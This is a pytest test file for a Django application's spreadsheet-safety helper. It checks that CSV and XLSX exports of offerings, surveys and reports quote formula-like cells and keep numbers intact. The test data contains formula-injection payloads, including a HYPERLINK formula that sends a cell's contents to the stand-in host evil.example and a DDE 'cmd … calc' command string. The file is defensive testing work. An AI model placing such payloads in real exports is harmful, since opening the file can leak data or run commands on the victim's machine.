"""Formula injection: a text that a spreadsheet would run as a formula leaves every CSV and
XLSX export with a quote in front; numbers stay numbers; the offerings round trip adds no
quotes (mitwirkung/spreadsheet_safety.py)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from districts.models import Membership
from mitwirkung.spreadsheet_safety import neutralise, restore
from offerings.exchange import (
    export_queryset,
    offering_import_apply,
    offering_import_plan,
    offering_rows,
    write_csv,
)
from offerings.models import Offering
from reports.exports.cells import Column
from reports.exports.csv_export import csv_value, write_table_csv
from reports.exports.tables import export_tables
from reports.exports.xlsx_export import write_xlsx, xlsx_value
from surveys.models import Question
from tests import factories as f
from tests.reports.sample_tables import sample_tables

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Klick")'
MALICIOUS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1", "\r=1"]


def test_the_helper_quotes_formula_starts_and_leaves_numbers_and_plain_text():
    assert [neutralise(text) for text in MALICIOUS] == ["'" + text for text in MALICIOUS]
    assert [restore(neutralise(text)) for text in MALICIOUS] == MALICIOUS
    assert (neutralise(-2), neutralise(-2.5), neutralise(None)) == (-2, -2.5, None)
    assert neutralise("Elterncafé - offen") == "Elterncafé - offen"
    # A quote the export did not add (no formula after it) is kept on import.
    assert restore("'Kiezladen'") == "'Kiezladen'"
    # A quote typed before a formula survives: one more goes on, one comes off.
    assert neutralise("'=1") == "''=1"
    assert restore("''=1") == "'=1"


def _sheet_cells(data: bytes) -> list[list[object]]:
    return [list(row) for row in load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True)]


def _csv_cells(data: bytes, delimiter: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


@pytest.fixture
def offering(district_a):
    provider = f.StakeholderFactory(district=district_a, name="@Träger Ost")
    return f.OfferingFactory(
        district=district_a,
        provider=provider,
        name=HYPERLINK,
        description="+cmd|' /C calc'!A0",
        opening_times="-2+3",
        age_from=3,
        age_to=10,
    )


def test_offering_exports_quote_formulas_in_csv_and_xlsx(client, district_a, member, offering):
    client.force_login(member(district_a, Membership.Role.VIEWER).user)
    url = reverse("offerings:export", kwargs={"district": district_a.slug})
    xlsx_cells = _sheet_cells(client.get(url, {"format": "xlsx"}).content)
    for cells in (_csv_cells(client.get(url, {"format": "csv"}).content), xlsx_cells):
        row = cells[1]
        assert "'" + HYPERLINK in row
        assert "'+cmd|' /C calc'!A0" in row
        assert "'-2+3" in row
        assert "'@Träger Ost" in row
        assert not any(isinstance(c, str) and c.startswith(("=", "+", "@", "-")) for c in row)
    assert xlsx_cells[1].count(3) + xlsx_cells[1].count(10) >= 2  # ages stay numbers


def test_open_data_csv_quotes_formulas_but_not_numbers(client, district_a, offering):
    url = reverse("offerings:open_data_csv", kwargs={"district": district_a.slug})
    header, row = _csv_cells(client.get(url).content, delimiter=",")
    record = dict(zip(header, row, strict=True))
    assert record["name"] == "'" + HYPERLINK
    assert record["beschreibung"] == "'+cmd|' /C calc'!A0"
    assert record["oeffnungszeiten"] == "'-2+3"
    assert record["traeger"] == "'@Träger Ost"
    assert (record["alter_von"], record["alter_bis"]) == ("3", "10")


def test_an_exported_file_imports_back_unchanged_and_stays_quoted_once(district_a, offering):
    data = write_csv(offering_rows(export_queryset(Offering.objects.for_district(district_a))))
    plan = offering_import_plan(data=data, district=district_a)
    assert plan.is_clean, plan.problems
    assert (len(plan.creates), len(plan.updates), plan.unchanged) == (0, 0, 1)
    again = write_csv(offering_rows(export_queryset(Offering.objects.for_district(district_a))))
    assert again == data
    assert "''" not in again.decode("utf-8-sig")


def test_an_imported_formula_is_stored_as_plain_text_and_exported_quoted(district_a):
    f.StakeholderFactory(district=district_a, name="Familienzentrum West")
    data = "Name;Träger;Kategorie\n=cmd|' /C calc'!A0;Familienzentrum West;familienbildung\n"
    plan = offering_import_plan(data=data.encode(), district=district_a)
    assert plan.is_clean, plan.problems
    offering_import_apply(plan=plan)
    stored = Offering.objects.for_district(district_a).get()
    assert stored.name == "=cmd|' /C calc'!A0"
    exported = _csv_cells(write_csv(offering_rows(export_queryset(Offering.objects.all()))))
    assert exported[1][1] == "'=cmd|' /C calc'!A0"


def test_survey_exports_quote_free_text_and_keep_negative_numbers(client, coordinator_a):
    survey = f.SurveyFactory(district=coordinator_a.district)
    page = f.PageFactory(survey=survey)
    wish = f.QuestionFactory(page=page, position=0, kind=Question.Kind.TEXT, text="@Wunsch")
    number = f.QuestionFactory(page=page, position=1, kind=Question.Kind.NUMBER, text="Zahl")
    response = f.ResponseFactory(collection_point=f.CollectionPointFactory(survey=survey))
    f.AnswerFactory(response=response, question=wish, text="\t=1", text_reviewed=True)
    f.AnswerFactory(response=response, question=number, number=-3, text="")
    client.force_login(coordinator_a.user)
    kwargs = {"district": survey.district.slug, "survey": survey.pk}
    csv_rows = _csv_cells(client.get(reverse("surveys:export_csv", kwargs=kwargs)).content)
    assert csv_rows[0][5] == "'@Wunsch"
    assert csv_rows[1][5:7] == ["'\t=1", "-3"]
    sheet = load_workbook(
        io.BytesIO(client.get(reverse("surveys:export_xlsx", kwargs=kwargs)).content)
    ).active
    assert sheet.cell(row=1, column=6).value == "'@Wunsch"
    assert sheet.cell(row=2, column=6).value == "'\t=1"
    assert sheet.cell(row=2, column=7).value == -3
    assert sheet.cell(row=2, column=7).data_type == "n"


def test_report_exports_quote_names_and_keep_negative_numbers(district_a):
    survey = f.SurveyFactory(district=district_a)
    tables = sample_tables(survey=survey, offering_names=("-2+3", "\r=1"))
    snapshot = f.ReportSnapshotFactory(survey=survey, tables=tables)
    (resources,) = export_tables(tables, "de", only="resources")
    rows = _csv_cells(write_table_csv(resources, "de"))
    assert [rows[1][1], rows[2][1]] == ["'-2+3", "'\r=1"]
    book = load_workbook(io.BytesIO(write_xlsx(snapshot, "de")))
    names = [row[1] for row in book.worksheets[-2].iter_rows(min_row=2, values_only=True)]
    assert names[0] == "'-2+3"
    assert names[1] in ("'\r=1", "'\n=1")  # XML reads a lone CR back as a line feed
    number = Column("change", "Veränderung", "number")
    assert xlsx_value(-2.5, number) == -2.5
    assert csv_value(-2.5, "de") == "-2,5"
